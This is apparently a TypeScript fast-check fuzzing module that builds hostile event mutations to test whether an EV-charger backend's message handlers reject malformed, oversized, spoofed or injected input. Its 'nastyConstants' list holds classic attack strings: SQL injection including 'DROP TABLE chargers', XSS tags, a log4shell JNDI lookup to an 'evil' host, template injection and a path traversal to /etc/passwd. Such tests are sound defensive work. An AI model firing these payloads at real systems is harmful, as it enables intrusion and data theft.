import { randomUUID } from 'node:crypto';
import fc from 'fast-check';

// Hostile values for any field: wrong types, non-finite and huge numbers, over-long, SQL- and script-looking
// strings, timestamps far away, prototype keys.
const nastyConstants: unknown[] = [
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  -1,
  -0,
  0,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  null,
  undefined,
  true,
  false,
  '',
  ' ',
  '0',
  'NaN',
  '1e999',
  "' OR '1'='1",
  "'; DROP TABLE chargers; --",
  '" UNION SELECT * FROM sessions --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-looking string is the point
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '\u0000',
  '\ud800',
  'x'.repeat(9_000),
  '0001-01-01T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '1970-01-01T00:00:00.000Z',
  '2026-13-45T99:99:99.000Z',
  '2026-11-25T07:00:00Z',
  '2026-11-25',
  'CP-UNKNOWN-1',
  '__proto__',
  [],
  {},
  { $ne: null },
];

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nastyConstants) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()) },
);

/** What a case did to a valid event. */
export interface Mutation {
  describe: string;
  apply: (event: Record<string, unknown>) => unknown;
}

export interface HostileCase {
  mutations: Mutation[];
  event: unknown;
  mustReject: boolean;
}

export interface TopicShape {
  /** Fields of a valid event (envelope included), with a builder for fresh ids. */
  valid: () => Record<string, unknown>;
  /** Required fields: deleting one can never give a valid message. */
  required: string[];
  /** Fields that name the sender: replaced together to test unknown chargers and spoofs. */
  identity?: { chargerId: string; clientId: string };
  /** The field holding a connector number, if any. */
  connectorField?: string;
  /** Extra fields are refused (device messages); lifecycle events from IoT Core are not strict. */
  strict: boolean;
}

const knownFieldOf = (event: Record<string, unknown>) => fc.constantFrom(...Object.keys(event));

export function mutationArbitrary(
  shape: TopicShape,
  sample: Record<string, unknown>,
): fc.Arbitrary<Mutation> {
  const replace = fc.tuple(knownFieldOf(sample), hostileValue).map(
    ([field, value]): Mutation => ({
      describe: `${field} := ${String(JSON.stringify(value))?.slice(0, 40)}`,
      apply: (event) => ({ ...event, [field]: value }),
    }),
  );
  const remove = fc.constantFrom(...shape.required).map(
    (field): Mutation => ({
      describe: `- ${field}`,
      apply: (event) => {
        const { [field]: _removed, ...rest } = event;
        return rest;
      },
    }),
  );
  const extra = fc
    .tuple(
      fc.oneof(
        fc.constantFrom('padding', 'constructor', 'admin', 'sessionOwner', 'toString'),
        fc.string({ minLength: 1, maxLength: 20 }),
      ),
      hostileValue,
    )
    .filter(([key]) => !(key in sample) && key !== '__proto__')
    .map(
      ([key, value]): Mutation => ({
        describe: `+ ${key}`,
        apply: (event) => ({ ...event, [key]: value }),
      }),
    );
  const oversize = fc.integer({ min: 8_200, max: 20_000 }).map(
    (size): Mutation => ({
      describe: `over 8 KB (${size})`,
      apply: (event) => ({ ...event, [shape.required[0] ?? 'at']: 'x'.repeat(size) }),
    }),
  );
  const unknownCharger = fc.stringMatching(/^[A-Za-z0-9_-]{1,64}$/).map(
    (id): Mutation => ({
      describe: `unknown charger ${id}`,
      apply: (event) =>
        shape.identity ? { ...event, [shape.identity.chargerId]: id, [shape.identity.clientId]: id } : event,
    }),
  );
  const spoof = fc.stringMatching(/^[A-Za-z0-9_-]{1,64}$/).map(
    (id): Mutation => ({
      describe: `spoof as ${id}`,
      apply: (event) =>
        shape.identity && event[shape.identity.chargerId] !== `${id}`
          ? { ...event, [shape.identity.clientId]: `${id}x` }
          : event,
    }),
  );
  const connector = fc.oneof(fc.integer({ min: -5, max: 1_000 }), fc.constant(2 ** 31)).map(
    (connectorId): Mutation => ({
      describe: `connectorId ${connectorId}`,
      apply: (event) => (shape.connectorField ? { ...event, [shape.connectorField]: connectorId } : event),
    }),
  );
  return fc.oneof(
    { weight: 5, arbitrary: replace },
    { weight: 2, arbitrary: remove },
    { weight: 2, arbitrary: extra },
    { weight: 1, arbitrary: oversize },
    { weight: 1, arbitrary: unknownCharger },
    { weight: 1, arbitrary: spoof },
    { weight: 1, arbitrary: connector },
  );
}

/** Whole events that are not an object at all (what a non-JSON or non-object payload becomes). */
const notAnObject: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, undefined, 0, -1, Number.NaN, '', 'not json', '{"truncated":', '\u0000\u0001', []),
  fc.string({ maxLength: 100 }),
  fc.double(),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 4 }),
  fc.uint8Array({ maxLength: 64 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
);

/**
 * Whether no handler may accept this event, judged on the final event (mutations compose): not an object, a
 * required field missing, a field the contract does not have, over 8 KB, or a client id that is not the topic's.
 */
export function mustRejectEvent(shape: TopicShape, sample: Record<string, unknown>, event: unknown): boolean {
  if (typeof event !== 'object' || event === null || Array.isArray(event)) return true;
  const fields = event as Record<string, unknown>;
  if (shape.required.some((field) => fields[field] === undefined)) return true;
  if (shape.strict && Object.entries(fields).some(([key, value]) => !(key in sample) && value !== undefined))
    return true;
  if (new TextEncoder().encode(JSON.stringify(fields)).length > 8_192) return true;
  const identity = shape.identity;
  if (identity) {
    const chargerId = fields[identity.chargerId];
    const clientId = fields[identity.clientId];
    if (typeof chargerId === 'string' && typeof clientId === 'string' && chargerId !== clientId) return true;
  }
  return false;
}

export function hostileCaseArbitrary(shape: TopicShape): fc.Arbitrary<HostileCase> {
  const sample = shape.valid();
  const mutated = fc
    .array(mutationArbitrary(shape, sample), { minLength: 1, maxLength: 3 })
    .map((mutations): HostileCase => {
      let event: unknown = shape.valid();
      for (const mutation of mutations) {
        event =
          typeof event === 'object' && event !== null
            ? mutation.apply(event as Record<string, unknown>)
            : event;
      }
      return { mutations, event, mustReject: mustRejectEvent(shape, sample, event) };
    });
  const whole = notAnObject.map(
    (event): HostileCase => ({
      mutations: [{ describe: 'not an object', apply: () => event }],
      event,
      mustReject: true,
    }),
  );
  // Some plain valid traffic too, so sessions open, charge and close while the hostile cases arrive.
  const valid = fc
    .constant(null)
    .map((): HostileCase => ({ mutations: [], event: shape.valid(), mustReject: false }));
  return fc.oneof(
    { weight: 8, arbitrary: mutated },
    { weight: 1, arbitrary: whole },
    { weight: 2, arbitrary: valid },
  );
}

export const freshId = () => randomUUID();
